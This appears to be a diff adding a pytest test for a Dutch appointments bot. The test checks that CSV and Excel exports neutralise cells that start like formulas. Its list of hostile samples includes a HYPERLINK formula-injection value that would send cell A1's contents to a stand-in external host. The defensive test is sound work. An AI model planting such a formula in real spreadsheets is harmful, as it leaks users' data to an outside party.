@@ -4,14 +4,17 @@ words, chart and files in every language."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import logging
+from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from bot.appointments.records import Answer, Kind, Status
 from bot.figures.chart import chart_language, chart_png, panels
-from bot.figures.export import appointments_table, csv_text
+from bot.figures.export import Cell, Table, appointments_table, csv_text, write_files
 from bot.figures.queries import (
     Announcements,
     AppointmentRow,
@@ -200,3 +203,34 @@ def test_csv_keeps_the_references_out_unless_asked() -> None:
     assert "K-AAAA" not in csv_text(appointments_table(rows, "nl", with_reference=False))
     with_codes = csv_text(appointments_table(rows, "nl", with_reference=True))
     assert with_codes.splitlines()[0].endswith(";Code") and "K-AAAA" in with_codes
+
+
+def test_text_that_starts_like_a_formula_is_written_as_text_in_both_files(
+    tmp_path: Path,
+) -> None:
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
+    ordinary = ["VDAB", "Arabisch", "10:00", "K-7F3Q", ""]
+    numbers = [-2, -1234.56, 0, 3, 2.5, -2]
+    day = dt.date(2027, 1, 26)
+    body: list[list[Cell]] = [[text, day, n] for text, n in zip(hostile, numbers, strict=True)]
+    body += [[text, day, 1] for text in ordinary]
+    table = Table("Afspraken", ["=A1", "Datum", "Getal"], body)
+    written = write_files(tmp_path, "export", table, table)
+    sheet = load_workbook(written[0])["Afspraken"]
+    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert rows[0] == ["'=A1", "Datum", "Getal"]
+    # (XML reads a carriage return back as a line feed.)
+    quoted = ["'" + text.replace("\r", "\n") for text in hostile]
+    assert [row[0] for row in rows[1:]] == [*quoted, *ordinary[:-1], None]
+    assert {sheet.cell(row, 1).data_type for row in range(2, 8)} == {"s"}  # not "f", a formula
+    # Numbers stay numbers (negative ones too), dates stay dates.
+    assert [row[2] for row in rows[1:7]] == numbers
+    assert {row[1] for row in rows[1:]} == {dt.datetime(2027, 1, 26)}
+    assert sheet["B2"].number_format == "yyyy-mm-dd"
+    with written[1].open(encoding="utf-8-sig", newline="") as file:
+        read = list(csv.reader(file, delimiter=";"))
+    assert read[0] == ["'=A1", "Datum", "Getal"]
+    assert [row[0] for row in read[1:]] == ["'" + text for text in hostile] + ordinary
+    assert [row[1:] for row in read[1:4]] == [
+        ["2027-01-26", "-2"], ["2027-01-26", "-1234.56"], ["2027-01-26", "0"]
+    ]  # fmt: skip
